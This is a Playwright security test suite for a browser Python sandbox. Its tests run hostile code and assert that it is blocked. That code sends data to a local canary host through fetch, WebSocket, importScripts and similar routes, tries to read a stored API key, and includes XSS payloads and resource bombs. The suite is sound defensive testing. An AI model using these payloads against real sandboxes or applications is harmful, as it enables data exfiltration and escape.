import type { BrowserContext, Page } from '@playwright/test';
import { startCanary, type Canary } from '../helpers/canary.ts';
import { configureAgent, expect, expectTerminal, openApp, runCode, terminalText, test, typeCommand, ui } from '../fixtures.ts';

// Code in the sandbox is hostile. Each case is an attempt a real attacker would make from Python,
// and asserts that it is blocked AND that the tab and the workspace survive it.
test.describe.configure({ mode: 'serial' });
let context: BrowserContext;
let page: Page;
let canary: Canary;

test.beforeAll(async ({ browser }) => {
  canary = await startCanary();
  ({ context, page } = await openApp(browser));
  // A secret the attacker wants: the user's API key, stored by the app.
  await configureAgent(page, { provider: 'openai-compatible', baseUrl: 'http://127.0.0.1:9/v1', model: 'm', apiKey: 'sk-SECRET-KEY-123' });
  await runCode(page, 'open("keep.txt", "w").write("precious")\n');
});

test.afterEach(async () => {
  // Every case: nothing reached the attacker, the workspace is intact, the next run works.
  expect(canary.hits).toEqual([]);
  expect(await runCode(page, 'print(open("keep.txt").read())\n')).toBe('ok 0');
  await expectTerminal(page).toContain('precious');
});

test.afterAll(async () => {
  await context.close();
  await canary.close();
});

/** Runs attacker code and returns the output text. */
async function attempt(code: string): Promise<string> {
  await runCode(page, code);
  return terminalText(page);
}

/**
 * Python that evaluates JavaScript in the worker by every route an attacker has (run_js, the
 * Function constructor reached from any JS object), printing `result: …` or `blocked: …`.
 */
const js = (source: string): string => `
def attack(src):
    routes = []
    try:
        from pyodide.code import run_js
        return run_js(src)
    except Exception as e:
        routes.append(f"run_js: {type(e).__name__}")
    try:
        from pyodide.ffi import to_js
        return to_js([]).constructor.constructor("return (" + src + ")")()
    except Exception as e:
        routes.append(f"Function: {type(e).__name__}")
    raise PermissionError("; ".join(routes))
try:
    print("result:", attack(${JSON.stringify(source)}))
except Exception as e:
    print("blocked:", e)
`;

// Promise: no network from user code (fetch from Python through run_js).
test('fetch to another origin through run_js is blocked', async () => {
  const out = await attempt(js(`fetch("${'CANARY'}/fetch").then(r => r.text())`).replace('CANARY', canary.url) + 'import time\ntime.sleep(0.5)\n');
  expect(out).not.toContain('stolen');
});

// Promise: no network from user code (XMLHttpRequest removed).
test('XMLHttpRequest is gone', async () => {
  expect(await attempt(js(`const x = new XMLHttpRequest(); x.open("GET", "${canary.url}/xhr"); x.send(); "sent"`))).toContain('blocked');
});

// Promise: no network from user code (WebSocket removed).
test('WebSocket is gone', async () => {
  expect(await attempt(js(`new WebSocket("${canary.url.replace('http', 'ws')}/ws"); "sent"`))).toContain('blocked');
});

// Promise: no network from user code (EventSource removed).
test('EventSource is gone', async () => {
  expect(await attempt(js(`new EventSource("${canary.url}/sse"); "sent"`))).toContain('blocked');
});

// Promise: no network from user code (sendBeacon removed).
test('navigator.sendBeacon is gone', async () => {
  expect(await attempt(js(`navigator.sendBeacon("${canary.url}/beacon", "data")`))).toContain('blocked');
});

// Promise: no network from user code (importScripts removed).
test('importScripts is gone', async () => {
  expect(await attempt(js(`importScripts("${canary.url}/x.js"); "loaded"`))).toContain('blocked');
});

// Promise: no network from user code (no nested workers).
test('nested Worker is gone', async () => {
  expect(await attempt(js(`new Worker("${canary.url}/w.js"); "started"`))).toContain('blocked');
});

// Promise: no network; the Function constructor is refused (worker CSP) or reaches only the locked-down global.
test('the Function constructor reached from a JS object reaches no network', async () => {
  const out = await attempt(
    `import time\nfrom pyodide.ffi import to_js\ntry:\n    g = to_js([]).constructor.constructor("return globalThis")()\n    print("XHR:", g.XMLHttpRequest)\n    g.fetch("${canary.url}/fn")\nexcept Exception as e:\n    print("blocked:", type(e).__name__)\ntime.sleep(0.5)\n`,
  );
  expect(out).toMatch(/blocked: JsException|XHR: undefined/);
});

// Promise: no network; dynamic import() from another origin is refused.
test('dynamic import() of an attacker script fails', async () => {
  expect(await attempt(js(`import("${canary.url}/evil.mjs").then(() => "imported")`) + 'import time\ntime.sleep(0.5)\n')).not.toContain('imported');
});

// Promise: no network; Pyodide's own HTTP helper is blocked like fetch.
test('pyodide.http.pyfetch is blocked', async () => {
  const out = await attempt(
    `import asyncio\nfrom pyodide.http import pyfetch\nasync def main():\n    try:\n        r = await pyfetch("${canary.url}/pyfetch")\n        print("got", await r.string())\n    except Exception as e:\n        print("blocked:", e)\nasyncio.run(main()) if False else None\nimport pyodide.ffi\nfrom pyodide.ffi import run_sync\ntry:\n    run_sync(main())\nexcept Exception as e:\n    print("blocked:", e)\n`,
  );
  expect(out).not.toContain('got stolen');
});

// Promise: loadPackage cannot fetch from a hostile URL.
test('pyodide_js.loadPackage from an attacker URL fails', async () => {
  const out = await attempt(
    `import pyodide_js, time\ntry:\n    pyodide_js.loadPackage("${canary.url}/evil-1.0-py3-none-any.whl")\nexcept Exception as e:\n    print("blocked:", e)\ntime.sleep(1)\nimport sys\nprint("evil" in sys.modules)\n`,
  );
  expect(out).toContain('False');
});

// Promise: micropip cannot install from the network. In Isobox it is a shim: what a program may
// install is asked for before it starts; at run time it only finds what is there.
test('micropip.install of an attacker URL or an unseen name downloads nothing', async () => {
  const out = await attempt(
    `import micropip\nprint("micropip is", "the shim" if getattr(micropip, "_isobox", False) else "real")\nfor target in ["${canary.url}" + "/evil-1.0-py3-none-any.whl", "ev" + "il"]:\n    try:\n        micropip.install(target)\n        print("installed", target)\n    except Exception as e:\n        print("blocked:", type(e).__name__)\n`,
  );
  expect(out).toContain('micropip is the shim');
  expect(out.match(/blocked: ValueError/g)).toHaveLength(2);
  expect(out).not.toContain('installed');
});

// Promise: no reach into app state (the API key lives in the page's localStorage).
test('the API key cannot be read from the sandbox', async () => {
  const out = await attempt(js(`[typeof localStorage, typeof sessionStorage, typeof document, JSON.stringify(Object.getOwnPropertyNames(globalThis)).includes("SECRET")].join(",")`));
  expect(out).toMatch(/result: undefined,undefined,undefined,false|blocked:/);
  expect(out).not.toContain('sk-SECRET');
});

// Promise: no reach into app state (IndexedDB and caches).
test('indexedDB and caches are gone', async () => {
  expect(await attempt(js(`[typeof indexedDB, typeof caches].join(",")`))).toMatch(/result: undefined,undefined|blocked:/);
});

// Promise: no reach into other projects (OPFS through navigator.storage).
test('navigator.storage cannot list or read other projects', async () => {
  const out = await attempt(
    js(`(() => { const d = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(navigator), "storage"); return [typeof navigator.storage, String(d && typeof d.get)].join(","); })()`),
  );
  expect(out).toMatch(/result: undefined,undefined|blocked:/);
});

// Promise: forged Comlink messages from user code do nothing.
test('forged Comlink messages to the page do nothing', async () => {
  const out = await attempt(
    js(`postMessage({ id: "0-0-0-0", type: "RAW", value: { status: "ok", exitCode: 0, changes: { written: { "evil.txt": new Uint8Array([1]) }, removed: ["keep.txt"], dirs: [] }, cwd: "", outputBatches: 0 } }); postMessage({ type: "APPLY", path: ["run"], argumentList: [] }); "posted"`),
  );
  expect(out).toMatch(/result: posted|blocked:/);
  await expect(ui.treeItem(page, 'evil.txt')).toHaveCount(0);
});

// Promise: resource limits (memory bomb ends as oom, not a dead tab).
test('a memory bomb ends as oom and a fresh run works', async () => {
  const status = await runCode(page, 'blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 1024 * 1024))\n');
  expect(status).toMatch(/^(oom|crashed) /);
});

// Promise: resource limits (deep recursion ends as error).
test('a recursion bomb ends as error', async () => {
  expect(await runCode(page, 'import sys\nsys.setrecursionlimit(10**6)\ndef f(n):\n    return f(n + 1)\nf(0)\n')).toMatch(/^(error 1|crashed)/);
});

// Promise: output cap (a 100 MB flood is cut, the tab stays responsive).
test('a 100 MB output flood is capped', async () => {
  expect(await runCode(page, 'import sys\nchunk = "A" * (1024 * 1024)\nfor _ in range(100):\n    sys.stdout.write(chunk)\n')).toBe('ok 0');
  const length = (await terminalText(page)).length;
  expect(length).toBeLessThan(1.2 * 1024 * 1024);
});

// Promise: output is inert (HTML and script in output are text).
test('HTML and ANSI in output stay text', async () => {
  await runCode(page, 'print("<script>window.pwned=1</script><img src=x onerror=\\"window.pwned=2\\">\\x1b[31mred\\x1b[0m")\n');
  await expectTerminal(page).toContain('<script>window.pwned=1</script>');
  await expect(ui.output(page).locator('script, img')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

// Promise: output is inert (hostile file names are shown as text).
test('file names with HTML, __proto__ and RTL overrides display as text', async () => {
  expect(await runCode(page, 'for name in ["<img src=x onerror=alert(1)>.txt", "evil\\u202egnp.exe"]:\n    open(name, "w").write("x")\n')).toBe('ok 0');
  // Pyodide's in-memory file system cannot hold a file named __proto__ (Emscripten keeps directory
  // entries in a plain object); the shell's tree can, so the shell writes that one.
  expect(await typeCommand(page, 'echo x > __proto__ && echo y > constructor')).toBe('ok 0');
  await expect(ui.treeItem(page, '<img src=x onerror=alert(1)>.txt')).toBeVisible();
  await expect(ui.treeItem(page, '__proto__')).toBeVisible();
  await expect(ui.treeItem(page, 'constructor')).toBeVisible();
  await expect(ui.treeItem(page, 'evil\u202egnp.exe')).toBeVisible();
  await expect(ui.fileTree(page).locator('img')).toHaveCount(0);
  expect(await typeCommand(page, "rm __proto__ constructor '<img src=x onerror=alert(1)>.txt' evil*")).toBe('ok 0');
  await expect(ui.treeItem(page, '__proto__')).toHaveCount(0);
});

// Promise: per-project storage quota with a clear error; earlier files intact.
test('a storage bomb is refused with a clear quota error', async () => {
  const status = await runCode(page, 'for i in range(6):\n    open(f"bomb{i}.bin", "wb").write(bytes(60 * 1024 * 1024))\n');
  expect(status).toBe('error 1');
  await expectTerminal(page).toMatch(/quota/i);
  await runCode(page, 'import os\nfor f in os.listdir("."):\n    if f.startswith("bomb"):\n        os.remove(f)\n');
});

// Promise: the sandbox cannot take the worker down silently (self.close).
test('closing the worker from inside ends the run and a fresh worker takes over', async () => {
  const status = await runCode(page, `${js('typeof close === "function" ? close() : 0')}\nimport time\ntime.sleep(0.2)\nprint("still here")\n`);
  expect(status).toMatch(/^(ok 0|crashed)/);
});

// Promise: no reach into other projects through the file system.
test('the Python file system holds only this project', async () => {
  const out = await attempt('import os\nprint(sorted(os.listdir("/workspace")))\nprint(os.path.exists("/projects"), os.path.exists("/workspace/../projects"))\n');
  expect(out).toContain("False False");
});
